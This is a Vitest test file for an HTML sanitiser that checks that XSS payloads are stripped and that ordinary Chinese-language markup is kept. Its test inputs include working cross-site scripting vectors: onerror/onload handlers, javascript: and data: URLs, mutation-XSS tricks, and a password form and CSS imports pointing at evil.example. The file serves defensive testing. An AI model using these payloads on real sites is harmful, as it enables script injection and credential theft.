import { expect, test } from 'vitest';
import { cleanHtml, textOfHtml } from './rich-text.ts';

test.each([
  '<svg onload=alert(1)>',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">点</a>',
  '<a href="JaVaScRiPt:alert(1)">点</a>',
  '<a href="data:text/html,<script>alert(1)</script>">点</a>',
  '<a href="//evil.example">点</a>',
  '<a href="http://evil.example">点</a>',
  '<p style="background:url(https://evil.example)">字</p>',
  '<p onclick="alert(1)">字</p>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form action="https://evil.example"><input name="password"></form>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>@import "https://evil.example"</style>',
  '<template><script>alert(1)</script></template>',
])('nothing of %s survives that could run or call out', (html) => {
  const cleaned = cleanHtml(html);
  expect(cleaned).not.toMatch(/<(svg|img|script|style|math|form|input|iframe|template|noscript)/i);
  expect(cleaned).not.toMatch(/<[^>]+\s(on\w+|style|src|href="(?!https:|tel:|mailto:))/i);
});

test('people’s text stays, and links open separately', () => {
  const html =
    '<h2>放假</h2><p>十月 <strong>1</strong>–7 日</p><ul><li>值班</li></ul><table><tbody><tr><td colspan="2">甲</td></tr></tbody></table>';
  expect(cleanHtml(html)).toBe(html);
  expect(cleanHtml('<a href="https://gov.cn/x" class="y">通知</a>')).toBe(
    '<a href="https://gov.cn/x" rel="noopener noreferrer" target="_blank">通知</a>',
  );
  expect(
    cleanHtml(`${'<blockquote>'.repeat(60)}深${'</blockquote>'.repeat(60)}`).match(/<blockquote>/g)?.length,
  ).toBeLessThanOrEqual(20);
});

test('the text of it, for the list and for search', () => {
  expect(textOfHtml('<h2>放假</h2><p>1 &lt; 2 &amp; 3</p><p>第二段<br>第二行</p><script>x</script>')).toBe(
    '放假\n1 < 2 & 3\n第二段\n第二行',
  );
});
